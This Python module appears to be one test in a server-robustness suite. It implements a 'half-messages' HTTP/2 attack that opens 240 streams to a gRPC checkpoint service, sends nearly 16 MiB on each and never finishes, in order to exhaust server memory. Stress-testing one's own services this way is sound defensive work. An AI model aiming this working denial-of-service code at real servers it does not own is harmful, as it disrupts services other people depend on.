"""Messages of 16 MiB of which the last part never comes."""

import time

from . import wire
from .attack import Attack

_CONNECTIONS, _STREAMS = 4, 60
_BYTES = (16 << 20) - 1000
_MOST_BYTES_PER_SECOND = 100 << 20  # of all: more would measure who has the processor
_FRAME = 16 << 10


class HalfMessages(Attack):
    name = "half-messages"
    about = f"{_CONNECTIONS * _STREAMS} calls that each send almost 16 MiB, and then nothing: 4 GiB if the server takes them"

    @staticmethod
    def attack(address: str, seconds: float) -> list[str]:
        senders = [Sender(int(address.rpartition(":")[2])) for _ in range(_CONNECTIONS)]
        begin = time.monotonic()
        sent = 0
        while (passed := time.monotonic() - begin) < seconds:
            before = sent
            if sent < passed * _MOST_BYTES_PER_SECOND:
                sent += sum(sender.send_some() for sender in senders)
            if sent == before:
                time.sleep(0.01)
        for sender in senders:
            sender.close()
        return []


class Sender:
    """A connection that keeps to HTTP/2's windows: else the server hangs up."""

    def __init__(self, port: int):
        self._socket = wire.open_socket(port)
        self._received = b""
        self._window = 65535
        self._stream_window = 65535  # of new streams
        self._windows: dict[int, int] = {}
        self._left: dict[int, int] = {}
        headers = wire.call_headers(wire.SERVICE + "CreateCheckpoint")
        self._socket.sendall(wire.greeting())
        time.sleep(0.1)
        self._read()
        self._next = 2 * _STREAMS + 1
        for stream in range(1, 2 * _STREAMS, 2):
            prefix = b"\0" + (16 << 20).to_bytes(4, "big")
            self._socket.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wire.frame(wire.DATA, 0, stream, prefix))
            self._windows[stream] = self._stream_window - len(prefix)
            self._window -= len(prefix)
            self._left[stream] = _BYTES

    def send_some(self) -> int:
        """At most a frame of each stream. How many bytes."""
        sent = 0
        try:
            self._read()
            for stream, left in self._left.items():
                size = min(left, self._window, self._windows[stream], _FRAME)
                if size <= 0:
                    continue
                self._socket.sendall(wire.frame(wire.DATA, 0, stream, b"\x0a" * size))
                self._left[stream] -= size
                self._windows[stream] -= size
                self._window -= size
                sent += size
        except OSError:
            self._left.clear()  # it has hung up, as it may
        return sent

    def open(self, headers: bytes) -> int:
        """A call of its own, for `send`."""
        stream = self._next
        self._next += 2
        self._windows[stream] = self._stream_window
        try:
            self._socket.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers))
        except OSError:
            self._left.clear()
        return stream

    def send(self, stream: int, data: bytes) -> int:
        """All, or nothing where the windows have no room. How many bytes."""
        if not self._left or len(data) > min(self._window, self._windows[stream], _FRAME):
            return 0
        try:
            self._socket.sendall(wire.frame(wire.DATA, 0, stream, data))
        except OSError:
            self._left.clear()
            return 0
        self._window -= len(data)
        self._windows[stream] -= len(data)
        return len(data)

    def close(self) -> None:
        self._socket.close()

    def _read(self) -> None:
        self._socket.setblocking(False)
        try:
            while data := self._socket.recv(1 << 16):
                self._received += data
        except BlockingIOError:
            pass
        self._socket.settimeout(5)
        while len(self._received) >= 9 and len(self._received) >= 9 + (size := int.from_bytes(self._received[:3], "big")):
            kind, flags = self._received[3], self._received[4]
            stream = int.from_bytes(self._received[5:9], "big") & 0x7FFFFFFF
            payload = self._received[9:9 + size]
            self._received = self._received[9 + size:]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == wire.WINDOW_UPDATE:
            more = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream == 0:
                self._window += more
            elif stream in self._windows:
                self._windows[stream] += more
        elif kind == wire.SETTINGS and not flags:
            for at in range(0, len(payload), 6):
                if payload[at:at + 2] == b"\0\4":  # the window of each stream, of those that are open, too
                    new = int.from_bytes(payload[at + 2:at + 6], "big")
                    self._windows = {open_stream: window + new - self._stream_window for open_stream, window in self._windows.items()}
                    self._stream_window = new
            self._socket.sendall(wire.frame(wire.SETTINGS, 1, 0))
        elif kind == wire.PING and not flags:
            self._socket.sendall(wire.frame(wire.PING, 1, 0, payload))
        elif kind in (wire.RESET, wire.HEADERS):
            self._left.pop(stream, None)
